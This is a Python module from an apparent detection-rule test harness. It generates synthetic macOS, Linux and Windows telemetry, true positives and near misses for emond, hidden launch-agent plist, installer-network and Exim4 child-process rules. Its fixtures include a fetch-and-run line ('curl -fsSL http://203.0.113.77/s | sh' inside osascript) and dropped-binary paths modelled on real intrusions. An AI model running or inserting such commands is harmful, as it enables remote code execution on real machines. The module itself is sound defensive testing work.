"""True positives, near misses and new-terms history for the four seed rules.

Everything here is planned before any benign noise; :class:`Specials` records the
``event.id`` of what it builds and the manifest entries (see :mod:`runner.demo.planner` for
where in time things go).  The Exim4 history covers the last ``min(history_days, 14)``
days, ending one hour before ``now``.
"""

from __future__ import annotations

from dataclasses import dataclass

from runner.demo import cases
from runner.demo.fleet import Host, Proc, windows_host
from runner.demo.model import (
    NEW_TERMS_HISTORY,
    RULE_EMOND,
    RULE_EXIM4,
    RULE_HIDDEN_PLIST,
    RULE_INSTALLER,
    HistoryTerm,
)
from runner.demo.planner import AUTO, DAY, MINUTE, MS, ROOT, SECOND, Planner
from runner.demo.render import (
    EXEC,
    FILE_CREATE,
    FILE_DELETE,
    FILE_SHAPES,
    FORK,
    NET_ACCEPT,
    NET_CONNECT,
    NET_DISCONNECT,
    PROCESS_END,
    FileRef,
    Label,
    NetInfo,
    Shape,
)

EXIM_USER = ("Debian-exim", "101")


@dataclass(frozen=True, kw_only=True)
class Chain:
    """installer -> script interpreter -> network program, and how to spoil it."""

    installer: str = "installer"  # or "package_script_service", "system_installd"
    interpreter: str = "/bin/sh"
    network: str = "/usr/bin/curl"
    ingest: int = AUTO
    shell_shape: Shape = EXEC
    net_offset: int | None = None  # ms after the interpreter's start; None = 1-12 s
    net_host: Host | None = None  # the network event on another host
    unrelated_parent: bool = False  # the network program is not the interpreter's child


class Specials(Planner):
    """Builds the special documents of the seed rules; call :meth:`build` once."""

    def build(self) -> None:
        cfg = self.config
        base = max(1, round(cfg.events * cfg.true_positive_ratio / 5))
        tp = base if cfg.true_positives else 0
        near = max(1, round(base / 4)) if cfg.near_misses else 0
        span = min(cfg.history_days * DAY, NEW_TERMS_HISTORY // MS)
        wanted = tp > 0 or near > 0
        seen = self.exim4_history(span) if wanted and span > 2 * 3600 * SECOND else []
        for i in range(tp):
            self.emond_true_positive(i)
            self.hidden_plist_true_positive(i)
            self.installer_true_positive(i)
            self.exim4_true_positive(i)
        for i in range(near):
            self.emond_near_misses(i)
            self.hidden_plist_near_misses(i)
            self.installer_near_misses(i)
            self.exim4_near_misses(i, seen)

    # -- Suspicious Emond Child Process --------------------------------------------------

    def emond_true_positive(self, i: int) -> None:
        case, exe, args, kind = cases.EMOND_TRUE_POSITIVES[i % len(cases.EMOND_TRUE_POSITIVES)]
        host = self.pick(self.macs)
        emond = self.daemon(host, "emond", "/sbin/emond", "launchd")
        ts, ingest = self.timing(kind)
        label = self.label("true_positive", RULE_EMOND, case)
        self.expect(
            label, host, self.child(host, emond, exe, args, ts=ts, label=label, ingest=ingest)
        )

    def emond_near_misses(self, i: int) -> None:
        rule = RULE_EMOND
        mac = self.pick(self.macs)
        emond = self.daemon(mac, "emond", "/sbin/emond", "launchd")
        exe, args = cases.EMOND_OTHER_CHILDREN[i % len(cases.EMOND_OTHER_CHILDREN)]
        lab = self.label("near_miss", rule, "name_not_listed")
        self.near_miss(lab, mac, self.child(mac, emond, exe, args, ts=self.in_window(), label=lab))

        helper = self.daemon(mac, "emond-helper", "/usr/local/libexec/emond-helper", "launchd")
        lab = self.label("near_miss", rule, "parent_emond_helper")
        eid = self.child(
            mac, helper, "/bin/bash", ("bash", "-c", "id"), ts=self.in_window(), label=lab
        )
        self.near_miss(lab, mac, eid)

        linux = self.pick(self.linux)
        lemond = self.daemon(linux, "emond", "/usr/sbin/emond", "systemd")
        lab = self.label("near_miss", rule, "linux_host")
        eid = self.child(
            linux, lemond, "/bin/sh", ("sh", "-c", "id"), ts=self.in_window(), label=lab
        )
        self.near_miss(lab, linux, eid)

        # A long-running child: started before the window, ends inside it.
        lab = self.label("near_miss", rule, "event_type_end")
        start = self.now - 40 * MINUTE - self.rng.randrange(10 * MINUTE)
        proc = self.proc(mac, "/bin/zsh", ("zsh", "/etc/emond.d/rules/.x.sh"), emond, start=start)
        first = self.rec(start, EXEC, mac, proc, lab)
        self.near_miss(lab, mac, first, self.rec(self.in_window(), PROCESS_END, mac, proc, lab))

        lab = self.label("near_miss", rule, "outside_window")
        eid = self.child(mac, emond, "/bin/sh", ("sh", "-c", "id"), ts=self.stale(), label=lab)
        self.near_miss(lab, mac, eid)

    # -- Creation of Hidden Launch Agent or Daemon ---------------------------------------

    def plist_event(
        self, host: Host, path: str, shape: Shape, *, ts: int, label: Label, ingest: int = AUTO
    ) -> str:
        """A program (started from the user's zsh) writes ``path``."""
        exe, args = cases.PLIST_WRITERS[self.rng.randrange(len(cases.PLIST_WRITERS))]
        user = host.account("user") if path.startswith("/Users/") else ROOT
        args = tuple(a.replace("{path}", path) for a in args)
        writer = self.proc(host, exe, args, host.apps["zsh"], start=ts - 150, user=user)
        ctx = self.context(label)
        self.rec(ts - 150, EXEC, host, writer, ctx, ingest=self.later(ingest, -150))
        eid = self.rec(ts, shape, host, writer, label, extra=FileRef(path), ingest=ingest)
        self.rec(ts + 30, PROCESS_END, host, writer, ctx, ingest=self.later(ingest, 30))
        return eid

    def hidden_plist_true_positive(self, i: int) -> None:
        host = self.pick(self.macs)
        table = cases.HIDDEN_PLIST_TRUE_POSITIVES
        if i < len(table):
            case, path, action, kind = table[i]
        else:
            dirs = cases.HIDDEN_PLIST_DIRS
            case, action, kind = "generated", "creation", "window"
            path = f"{dirs[i % len(dirs)]}/.com.{self.token()}.agent.plist"
        path = path.replace("{user}", host.user)
        ts, ingest = self.timing(kind)
        label = self.label("true_positive", RULE_HIDDEN_PLIST, case)
        self.expect(
            label,
            host,
            self.plist_event(host, path, FILE_SHAPES[action], ts=ts, label=label, ingest=ingest),
        )

    def hidden_plist_near_misses(self, i: int) -> None:
        host = self.pick(self.macs)
        vendor = cases.PLIST_VENDORS[i % len(cases.PLIST_VENDORS)]
        hidden = f"/Library/LaunchAgents/.com.{vendor}.plist"
        other = cases.HIDDEN_PLIST_OTHER_PATHS[i % len(cases.HIDDEN_PLIST_OTHER_PATHS)]
        for case, template, shape, ts in (
            (
                "not_hidden",
                f"/Library/LaunchAgents/com.{vendor}.plist",
                FILE_CREATE,
                self.in_window(),
            ),
            ("deletion", hidden, FILE_DELETE, self.in_window()),
            ("other_directory", other, FILE_CREATE, self.in_window()),
            ("backup_suffix", hidden + ".bak", FILE_CREATE, self.in_window()),
            ("outside_window", hidden, FILE_CREATE, self.stale()),
        ):
            label = self.label("near_miss", RULE_HIDDEN_PLIST, case)
            path = template.replace("{user}", host.user)
            self.near_miss(label, host, self.plist_event(host, path, shape, ts=ts, label=label))

    # -- MacOS Installer Package Spawns Network Event ------------------------------------

    def installer(self, host: Host, kind: str, t: int, label: Label, ingest: int) -> Proc:
        if kind == "package_script_service":
            return self.daemon(host, kind, cases.PACKAGE_SCRIPT_SERVICE, "launchd")
        if kind == "system_installd":
            return self.daemon(host, kind, cases.SYSTEM_INSTALLD, "launchd")
        pkg = cases.PACKAGES[self.rng.randrange(len(cases.PACKAGES))]
        args = ("installer", "-pkg", f"/Users/{host.user}/Downloads/{pkg}.pkg", "-target", "/")
        start = t - 2000 - self.rng.randrange(3000)
        proc = self.proc(host, cases.INSTALLER, args, host.apps["zsh"], start=start)
        self.rec(start, EXEC, host, proc, self.context(label), ingest=self.later(ingest, start - t))
        return proc

    def script_args(self, host: Host, interpreter: str) -> tuple[str, ...]:
        name = interpreter.rsplit("/", 1)[-1]
        tok = self.token()
        script = f"/tmp/PKInstallSandbox.{tok}/Scripts/com.vendor.pkg.{tok}/postinstall"
        if name in ("sh", "bash", "zsh"):
            return (interpreter, script, f"/Users/{host.user}/Downloads/Vendor.pkg", "/", "/", "/")
        if name == "osascript":
            return ("osascript", "-e", 'do shell script "curl -fsSL http://203.0.113.77/s | sh"')
        return (name, script)

    def installer_chain(self, host: Host, t: int, label: Label, chain: Chain) -> tuple[str, str]:
        """Returns the event ids of the interpreter's process event and of the network
        program's connection."""
        rng = self.rng
        ctx = self.context(label)
        ingest = chain.ingest
        parent = self.installer(host, chain.installer, t, label, ingest)
        args = self.script_args(host, chain.interpreter)
        shell = self.proc(host, chain.interpreter, args, parent, start=t)
        first = self.rec(t, chain.shell_shape, host, shell, label, ingest=ingest)
        offset = 1000 + rng.randrange(11_000) if chain.net_offset is None else chain.net_offset
        nhost = chain.net_host or host
        net_parent = nhost.apps["zsh"] if chain.unrelated_parent else shell
        name = chain.network.rsplit("/", 1)[-1]
        args = cases.NETWORK_ARGS.get(name, (name,))
        start = t + (offset - 200 if offset < 0 else 200)
        child = self.proc(nhost, chain.network, args, net_parent, start=start)
        if offset > 500 and chain.net_host is None:
            dt = 200 + rng.randrange(offset - 300)
            self.rec(t + dt, EXEC, host, child, ctx, ingest=self.later(ingest, dt))
        info = self.outbound(nhost, 80 if name == "wget" else 443)
        second = self.rec(
            t + offset,
            NET_CONNECT,
            nhost,
            child,
            label,
            extra=info,
            ingest=self.later(ingest, offset),
        )
        dt = offset + 100 + rng.randrange(2000)
        self.rec(
            t + dt, NET_DISCONNECT, nhost, child, ctx, extra=info, ingest=self.later(ingest, dt)
        )
        self.rec(t + dt + 20, PROCESS_END, nhost, child, ctx, ingest=self.later(ingest, dt + 20))
        dt = max(dt + 60, 500)
        self.rec(t + dt, PROCESS_END, host, shell, ctx, ingest=self.later(ingest, dt))
        return first, second

    def installer_true_positive(self, i: int) -> None:
        table = cases.INSTALLER_TRUE_POSITIVES
        case, installer, interpreter, network, kind = table[i % len(table)]
        host = self.pick(self.macs)
        ts, ingest = self.timing(kind)
        label = self.label("true_positive", RULE_INSTALLER, case)
        chain = Chain(installer=installer, interpreter=interpreter, network=network, ingest=ingest)
        self.expect(label, host, *self.installer_chain(host, ts, label, chain))

    def installer_near_misses(self, i: int) -> None:
        host = self.pick(self.macs)
        others = [h for h in self.macs if h is not host]
        late_ts, late_ingest = self.late()
        variants: list[tuple[str, int, Chain]] = [
            (
                "outside_maxspan",
                self.in_window(),
                Chain(net_offset=20_000 + self.rng.randrange(5000)),
            ),
            ("parent_entity_mismatch", self.in_window(), Chain(unrelated_parent=True)),
            (
                "network_before_process",
                self.in_window(),
                Chain(net_offset=-2000 - self.rng.randrange(4000)),
            ),
            ("parent_not_installer", self.in_window(), Chain(installer="system_installd")),
            ("fork_action", self.in_window(), Chain(shell_shape=FORK)),
            (
                "network_process_not_listed",
                self.in_window(),
                Chain(network="/opt/homebrew/bin/python3"),
            ),
            (
                "interpreter_not_listed",
                self.in_window(),
                Chain(interpreter="/opt/homebrew/bin/python3"),
            ),
            ("timestamp_outside_window", late_ts, Chain(ingest=late_ingest)),
        ]
        if others:
            variants.append(
                ("different_host", self.in_window(), Chain(net_host=others[i % len(others)]))
            )
        for case, ts, chain in variants:
            label = self.label("near_miss", RULE_INSTALLER, case)
            self.near_miss(label, host, *self.installer_chain(host, ts, label, chain))

    # -- Unusual Exim4 Child Process -----------------------------------------------------

    def exim4_true_positive(self, i: int) -> None:
        table = cases.EXIM4_TRUE_POSITIVES
        if i < len(table):
            case, exe, args, kind = table[i]
        else:
            name = cases.DROPPED_NAMES[i % len(cases.DROPPED_NAMES)]
            case, kind = "dropped_binary", "window"
            exe = f"/dev/shm/.{self.token()}/{name}"
            args = (exe,)
        host = self.pick(self.mail)
        daemon = host.apps["exim4"]
        ts, ingest = self.timing(kind)
        label = self.label("true_positive", RULE_EXIM4, case)
        # The SMTP session that delivered the exploit, then the child.
        client = f"10.0.1.{30 + self.rng.randrange(20)}"
        info: NetInfo = (client, 32768 + self.rng.getrandbits(14), host.ip, 25, "tcp", "ingress")
        ctx = self.context(label)
        self.rec(
            ts - 1500, NET_ACCEPT, host, daemon, ctx, extra=info, ingest=self.later(ingest, -1500)
        )
        eid = self.child(host, daemon, exe, args, ts=ts, label=label, ingest=ingest, user=EXIM_USER)
        self.expect(label, host, eid, new_term=exe)

    def exim4_history(self, span_ms: int) -> list[tuple[str, tuple[str, ...]]]:
        """Routine exim4 children over the history window; returns their (executable, args)."""
        label = self.label("history", RULE_EXIM4, "routine_child")
        for exe, args in cases.EXIM4_HISTORY:
            eids = []
            for _ in range(2 + self.rng.randrange(3)):
                host = self.pick(self.mail)
                ts = self.rng.randrange(
                    self.now - span_ms + 3600 * SECOND, self.now - 3600 * SECOND
                )
                daemon = host.apps["exim4"]
                eids.append(
                    self.child(
                        host, daemon, exe, args, ts=ts, label=label, user=EXIM_USER, end=False
                    )
                )
            self.history.append(HistoryTerm(rule=RULE_EXIM4, term=exe, event_ids=tuple(eids)))
        return list(cases.EXIM4_HISTORY)

    def windows(self) -> Host:
        if not self.extra_hosts:
            self.extra_hosts.append(windows_host(self.rng, self.now))
        return self.extra_hosts[0]

    def exim4_near_misses(self, i: int, seen: list[tuple[str, tuple[str, ...]]]) -> None:
        rule = RULE_EXIM4
        host = self.pick(self.mail)
        daemon = host.apps["exim4"]
        win = self.windows()
        if "exim4" not in win.apps:
            exe = "C:\\cygwin64\\usr\\sbin\\exim4"
            win.apps["exim4"] = self.proc(
                win, exe, (exe, "-bd"), win.apps["system"], start=self.now - DAY
            )
        excluded = cases.EXIM4_EXCLUDED_CHILDREN[i % len(cases.EXIM4_EXCLUDED_CHILDREN)]
        # Fresh executables, so each would be a new term if the rule matched the document.
        variants: list[tuple[str, Proc, tuple[str, tuple[str, ...]], Shape, int]] = [
            ("excluded_name", daemon, excluded, EXEC, self.in_window()),
            (
                "parent_exim",
                self.daemon(host, "exim", "/usr/sbin/exim", "systemd"),
                (f"/var/tmp/.{self.token()}/sh", ("sh",)),
                EXEC,
                self.in_window(),
            ),
            (
                "parent_case",
                self.daemon(host, "Exim4", "/opt/Exim4/bin/Exim4", "systemd"),
                (f"/var/tmp/.{self.token()}/sh", ("sh",)),
                EXEC,
                self.in_window(),
            ),
            (
                "windows_host",
                win.apps["exim4"],
                (f"C:\\Users\\Public\\{self.token()}.exe", ("payload.exe",)),
                EXEC,
                self.in_window(),
            ),
            (
                "fork_action",
                daemon,
                (f"/var/tmp/.{self.token()}/dash", ("dash",)),
                FORK,
                self.in_window(),
            ),
            (
                "outside_window",
                daemon,
                (f"/var/tmp/.{self.token()}/sh", ("sh",)),
                EXEC,
                self.stale(),
            ),
        ]
        if seen:
            variants.append(
                ("seen_in_history", daemon, seen[i % len(seen)], EXEC, self.in_window())
            )
        for case, parent, (exe, args), shape, ts in variants:
            label = self.label("near_miss", rule, case)
            on = parent.host
            user = EXIM_USER if on.os_type == "linux" else ("SYSTEM", "S-1-5-18")
            eid = self.child(on, parent, exe, args, ts=ts, label=label, shape=shape, user=user)
            self.near_miss(label, on, eid)
        # Started before the window (a match, but old), ended inside it.
        label = self.label("near_miss", rule, "event_type_end")
        start = self.now - 35 * MINUTE - self.rng.randrange(10 * MINUTE)
        exe = f"/var/tmp/.{self.token()}/perl"
        proc = self.proc(host, exe, ("perl",), daemon, start=start, user=EXIM_USER)
        first = self.rec(start, EXEC, host, proc, label)
        self.near_miss(
            label, host, first, self.rec(self.in_window(), PROCESS_END, host, proc, label)
        )
